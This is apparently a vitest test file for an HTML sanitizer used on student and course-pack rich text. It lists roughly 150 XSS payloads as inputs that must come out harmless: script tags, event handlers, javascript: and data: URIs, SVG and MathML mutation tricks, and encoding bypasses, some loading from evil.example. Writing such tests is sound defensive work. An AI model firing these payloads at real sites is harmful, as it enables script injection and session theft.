/** What is left of texts in rich text: everything an editor writes, and nothing that runs, loads or gives anybody away. */
import { describe, expect, test } from 'vitest';
import { mediaLink, sanitizeRichText, sanitizeStudentText } from './rich-text.ts';

const limit = 200_000;
const id = '0b380d5e-d25c-4d8f-bb06-1db4f3efbf5e';
const link = mediaLink('student1', { id, extension: 'png' });
const student = (html: string) => {
  const text = sanitizeStudentText(html, limit);
  if (text === undefined) throw new Error('too long');
  return text;
};

/**
 * Everything that a result may consist of, tag by tag. What a browser makes of this cannot be anything else: all text is
 * escaped, and there is no element in which it would be read in another way.
 */
const value = '"[^"<>]*"';
const plain =
  'p|h2|h3|h4|blockquote|pre|code|ul|li|strong|b|em|i|u|s|sub|sup|mark|figure|figcaption|table|thead|tbody|tr|caption';
const media = link
  .replaceAll(/[.?]/g, '\\$&')
  .replace(id, '[0-9a-f-]{36}')
  .replace('student1', '[a-z0-9._-]+');
const grammar = new RegExp(
  `^(?:[^<>]|</(?:${plain}|a|th|td|ol)>|<(?:${plain}|br|hr)>` +
    `|<a(?: href="(?:https?://|mailto:|tel:)[^"<>]*"| title(?:=${value})?| target="_blank"| rel="noopener noreferrer nofollow")*>` +
    `|<img(?: src="${media}"| alt=${value}| (?:width|height)="[1-9][0-9]{0,3}")*>` +
    `|<(?:th|td)(?: (?:colspan|rowspan)="[1-9][0-9]?"| scope="(?:row|col|rowgroup|colgroup)")*>|<ol(?: start="[0-9]{1,6}")?>)*$`,
);
/** The same of a course pack, whose pictures may be elsewhere and whose links may stay on this server. */
const packGrammar = new RegExp(
  `^(?:[^<>]|</(?:${plain}|a|th|td|ol)>|<(?:${plain})>|<[bh]r />` +
    `|<a(?: href="(?!\\s*(?:javascript|data|vbscript|//))[^"<>]*"| title(?:=${value})?| target="_blank"| rel="noopener noreferrer nofollow")*>` +
    `|<img(?: src="(?!\\s*(?:javascript|data|vbscript|//))[^"<>]*"| alt=${value}| (?:width|height)(?:=${value})?)* />` +
    `|<(?:th|td)(?: (?:colspan|rowspan|scope)(?:=${value})?)*>|<ol(?: start(?:=${value})?)?>)*$`,
);

const attacks: Readonly<Record<string, readonly string[]>> = {
  'a script': [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<script/x>alert(1)</script/>',
    '<script\n>alert(1)</script\t>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<script>/*',
    '</script><script>alert(1)</script>',
    '<script type=module>import "//evil.example"</script>',
    '<xss:script>alert(1)</xss:script>',
  ],
  'an event handler': [
    '<img src=x onerror=alert(1)>',
    `<img src="${link}" onload="alert(1)">`,
    '<p onclick=alert(1)>누르세요</p>',
    '<p/onmouseover=alert(1)//>x',
    '<p\u000conpointerenter\u000c=alert(1)>x</p>',
    '<b "onfocus=alert(1)" autofocus tabindex=0>x</b>',
    "<td title='x'onclick='alert(1)'>x",
    '<table onbeforetoggle=alert(1)><tr><td onanimationstart=alert(1)>x',
    '<a href="https://ok.example" ONCLICK="alert(1)">x</a>',
    '<ol start=1 oncontentvisibilityautostatechange=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<audio src onerror=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<body onload=alert(1)>',
    '<img alt="`" title="`onerror=alert(1)`">',
  ],
  'an address that runs': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript&colon;alert(1)">x</a>',
    '<a href="&#106;avascript&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href="&Tab;java&NewLine;script:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="ｊavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://ok.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:https://ok.example">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example" href="javascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)//https://ok.example">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="javascript:alert(1)">',
    '<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<table background="javascript:alert(1)"><td>x</td></table>',
    '<a href=x ping=//evil.example>x</a>',
  ],
  'a drawing': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
    '<svg><set attributeName=onmouseover to=alert(1)>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">',
    '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
    '<svg><style>@import "//evil.example"</style></svg>',
    '<svg></p><style><a title="</style><img src onerror=alert(1)>">',
    '<svg><desc><img src onerror=alert(1)></desc></svg>',
    '<svg><title><style><img src onerror=alert(1)></style></title></svg>',
    '<svg><![CDATA[<img src onerror=alert(1)>]]></svg>',
    '<svg><!--><img src onerror=alert(1)>--></svg>',
  ],
  'a formula': [
    '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#https://ok.example" xlink:href="javascript:alert(1)">x',
    '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>',
    '<math><mi><malignmark><style><img title="</style><img src onerror=alert(1)>">',
    '<svg><math><mtext><p><style><a id="</style><img src onerror=alert(1)>"></style>',
  ],
  'another way of reading': [
    '<noscript><p title="</noscript><img src onerror=alert(1)>">',
    '<noscript><style></noscript><img src onerror=alert(1)>',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src onerror=alert(1)>"></noframes>',
    '<template><img src onerror=alert(1)></template>',
    '<template><svg><template><style><img title="</style><img src onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src onerror=alert(1)>"></title>',
    '<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>',
    '<plaintext><img src onerror=alert(1)>',
    '<style><img title="</style><img src onerror=alert(1)>">',
    '<select><template><img src onerror=alert(1)></template></select>',
    '<option><style></option></select><img src onerror=alert(1)></style>',
    '<iframe><p title="</iframe><img src onerror=alert(1)>"></iframe>',
    '<textarea></textarea/><img src onerror=alert(1)>',
    '<table><a href="https://ok.example"><td><style></a><img src onerror=alert(1)>',
    '<dialog><listing>\n<img src onerror=alert(1)></listing>',
  ],
  'a frame or an object': [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src onerror=alert(1)&gt;">',
    '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/html" data="//evil.example"><param name=src value=x></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x></applet>',
    '<portal src=//evil.example></portal>',
    '<fencedframe></fencedframe>',
  ],
  'a change of the page': [
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href=//evil.example>',
    '<link rel=prefetch href=//evil.example>',
    '<html manifest=//evil.example><head><title>x</title></head></html>',
    '<style>*{background:url(//evil.example)}</style>',
    '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
    '<p style="width:expression(alert(1))" class="btn" id=app>x</p>',
    '<font color=red size=7 face=x>x</font>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  ],
  'a form': [
    '<form action=javascript:alert(1)><button>x</button></form>',
    '<form><button formaction=javascript:alert(1)>x</button></form>',
    '<input type=image src=x formaction=javascript:alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<keygen autofocus onfocus=alert(1)>',
    '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>',
    '<label for=x>x</label><select onchange=alert(1)><option>x</select>',
  ],
  'names that stand for others': [
    '<a id=document name=cookie>x</a>',
    '<img name=getElementById src=x>',
    '<form name=body><input name=attributes></form>',
    '<p id=__proto__ name=constructor>x</p>',
    '<a id=defaultView><a id=defaultView name=x href="https://ok.example">x</a>',
    '<p is=x-button slot=x part=x data-x=1 aria-label=x role=button contenteditable>x</p>',
  ],
  'what does not end': [
    '<img src onerror=alert(1)',
    '<img src="x" onerror="alert(1)',
    '<a href="javascript:alert(1)',
    '<a href=javascript:alert(1)//',
    '<p title="',
    '<p <img src onerror=alert(1)>',
    '<!-- <img src onerror=alert(1)>',
    '<!--><img src onerror=alert(1)>-->',
    '<!---><img src onerror=alert(1)>-->',
    '<!-- --!><img src onerror=alert(1)>-->',
    '<![CDATA[<img src onerror=alert(1)>]]>',
    '<!x <img src onerror=alert(1)>>',
    '</ <img src onerror=alert(1)>>',
    '<%<img src onerror=alert(1)>%>',
    '<b><i></b></i><p></ol></td></table></a></h2><li><td><tr>',
    '</p></br></hr></img></a>',
  ],
  'disguised characters': [
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;img src onerror=alert(1)&amp;gt;',
    '&#60;script&#62;alert(1)&#x3c;/script&#x3e;',
    '&#0;<im&#0;g src onerror=alert(1)>&#xd800;&#x110000;&#x80;',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '<im\u0000g src onerror=alert(1)>',
    '<a href="java\u0000script:alert(1)">x</a>',
    '＜script＞alert(1)＜/script＞',
    '<ſcript>alert(1)</ſcript>',
    '<ıframe src=javascript:alert(1)>',
    '<img\u3000src onerror=alert(1)>',
    '<img/\u2028src/onerror=alert(1)>',
    '<\u202escript>alert(1)',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\\u003cscript\\u003ealert(1)\\x3c/script\\x3e',
    '<p>\u0338<b>\u0338</b></p>',
  ],
};

describe.each(Object.entries(attacks))('%s', (_what, payloads) => {
  test.each(payloads)('%j', (payload) => {
    const { html } = student(payload);
    expect(html).toMatch(grammar);
    expect(html.isWellFormed()).toBe(true);
    expect(student(html).html).toBe(html);
    expect(sanitizeRichText(payload)).toMatch(packGrammar);
  });
});

test('attacks do not help each other', () => {
  const all = Object.values(attacks).flat();
  for (const [one, other] of all.flatMap((first, index) => [
    [first, all[(index * 7 + 3) % all.length]],
    [all.slice(index, index + 5).join(''), ''],
    [`<p title="${first}">`, first],
    [`<td><a href="${first}">`, `</a>${first}`],
  ])) {
    const { html } = student(`${one}${other}`);
    expect(html).toMatch(grammar);
    expect(student(html).html).toBe(html);
  }
});

describe('what an editor writes stays as it is, byte for byte', () => {
  const open = '<a target="_blank" rel="noopener noreferrer nofollow" href=';
  test.each([
    '<p>표적 서열은 <strong>NM_007294.4</strong>이고, <em>Tm</em>은 <u>60 ℃</u>입니다.</p>',
    '<h2>제목</h2><h3>작은 제목</h3><h4>더 작은 제목</h4><p></p><p><br></p><hr><p>끝</p>',
    '<p><s>지움</s> H<sub>2</sub>O x<sup>2</sup> <code>a &lt; b &amp;&amp; c &gt; d</code> <mark>강조</mark></p>',
    '<ul><li><p>하나</p><ol><li><p>둘</p><ul><li><p>셋</p></li></ul></li></ol></li></ul>',
    '<ol start="3"><li><p>셋째</p></li></ol>',
    '<blockquote><p>인용</p><p>두 줄</p></blockquote><pre><code>for i in 1..3:\n\tprint(i)</code></pre>',
    '<table><tbody><tr><th colspan="2" rowspan="1"><p>머리</p></th></tr><tr><td colspan="1" rowspan="2"><p>칸</p></td><td><p>칸</p></td></tr></tbody></table>',
    `<p>${open}"https://www.ncbi.nlm.nih.gov/gene/?term=BRCA1&amp;x=%EA%B0%80#top">NCBI</a></p>`,
    `<p>${open}"mailto:help@example.ac.kr">메일</a> ${open}"tel:02-123-4567">전화</a></p>`,
    `<p>${open}"https://한글.example/경로?질문=1">주소</a></p>`,
    `<img src="${link}" alt="젤 사진 &quot;1번&quot; &lt;원본&gt;" width="640" height="480">`,
    `<p>앞<img src="${link}" alt="">뒤</p>`,
    '<p>띄어&nbsp;쓰기&nbsp; "따옴표" \'작은\' 한글 ﷽ 👩‍🔬 가 가</p>',
    '<p>1 &lt; 2 &amp; 3 &gt; 2 &amp;lt; &amp;nbsp;</p>',
  ])('%s', (html) => expect(student(html).html).toBe(html));
});

describe('a student’s text', () => {
  test('has pictures of this server alone', () => {
    const others = [
      'https://evil.example/pixel.png',
      `https://evil.example${link}`,
      `//evil.example${link}`,
      `/${link}`,
      link.slice(1),
      link.replace('media', 'profile'),
      link.replace('student1', '../student1'),
      `${link}&filePath=/profile/x`,
      `${link}#x`,
      link.replace('.png', '.png/..'),
      link.replace('/view', '/\\view'),
      link.replaceAll('/', '%2F'),
      ` ${link}`,
      '/api/comm/userLogout.do',
      'cid:x',
    ];
    for (const src of others)
      expect(student(`<p>앞<img src="${src}" alt="x">뒤</p>`).html).toBe('<p>앞뒤</p>');
  });

  test('names its pictures once', () => {
    const second = id.replace('0b', '1c');
    const two = `<img src="${link}"><p>x</p><img alt="y" src="${link.replace(id, second)}"><img src="${link}">`;
    expect(student(two)).toMatchObject({ pictures: [id, second], isEmpty: false });
    expect(
      student(`<p>&lt;img src="${link}"&gt;</p><a href="https://x.kr" title='<img src="${link}">'>x</a>`)
        .pictures,
    ).toEqual([]);
  });

  test('loses every attribute that is not its tag’s, or not well-formed', () => {
    const sent =
      `<img src="${link}" width="100%" height="-1" loading=lazy style=x class=x srcset=x>` +
      '<ol start="x" type=a reversed><li value=3>x</li></ol>' +
      '<table border=1><tr><td colspan="9999" rowspan="0" headers=x nowrap>x</td></tr></table>';
    expect(student(sent).html).toBe(
      `<img src="${link}"><ol><li>x</li></ol><table><tr><td>x</td></tr></table>`,
    );
  });

  test('keeps the words of links that lead nowhere', () => {
    expect(
      student('<p><a href="javascript:x">가</a><b>나</b><a href="/lms_st">다</a><a name=x>라</a></p>').html,
    ).toBe('<p>가<b>나</b>다라</p>');
  });

  test('opens links in another tab, whatever was asked for', () => {
    expect(student('<a href="https://x.kr" target="_top" rel="opener">x</a>').html).toBe(
      '<a href="https://x.kr" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  test.each([
    '',
    '<p></p>',
    '<p><br></p><hr>',
    ' &nbsp;\n\u200b\u3164',
    '<table><tr><td></td></tr></table>',
    '<script>x</script>',
    '<img src=x alt=그림>',
  ])('is empty: %j', (html) => expect(student(html).isEmpty).toBe(true));
  test.each(['.', '<p>가</p>', `<img src="${link}">`, '&lt;', '&amp;nbsp;'])('is not empty: %j', (html) =>
    expect(student(html).isEmpty).toBe(false));

  test('is not longer than it may be', () => {
    expect(sanitizeStudentText('가'.repeat(limit), limit)?.html).toHaveLength(limit);
    expect(sanitizeStudentText('가'.repeat(limit + 1), limit)).toBeUndefined();
    expect(sanitizeStudentText('<'.repeat(limit), limit)).toBeUndefined();
  });
});

test('what is nested without end, or opened and never closed, costs no more than its length', () => {
  const fill = (part: string) => part.repeat(Math.floor(limit / part.length));
  const texts = [
    fill('<b>'),
    `${fill('<b>').slice(0, 99_999)}${fill('</i>').slice(0, 100_000)}`,
    ...[
      '<ul><li>',
      '<table><td>',
      '<a href=x>',
      '<p>',
      '</p>',
      '<svg>',
      '<math><mtext>',
      '<noscript>',
      '<noscript></b>',
    ].map(fill),
    ...[
      '<iframe>',
      '<textarea>',
      '<template><svg>',
      '<!--',
      '<![CDATA[',
      '<',
      '&',
      '&lt',
      '<a title="',
      '<x y=',
    ].map(fill),
    ...['<p><x>', '<b><p><i><p>', '<a><table><a>', '<li><p><li>'].map(fill),
    `<a ${fill('b=1 ')}>`,
  ];
  const plain = (length: number) => `<p>${'가나다 '.repeat(length / 4)}</p>`;
  const timed = (html: string) => {
    const before = process.cpuUsage();
    sanitizeStudentText(html, limit * 10);
    const { user, system } = process.cpuUsage(before);
    return (user + system) / 1000;
  };
  timed(plain(limit));
  for (const text of texts) expect(timed(text), text.slice(0, 40)).toBeLessThan(1000);
});
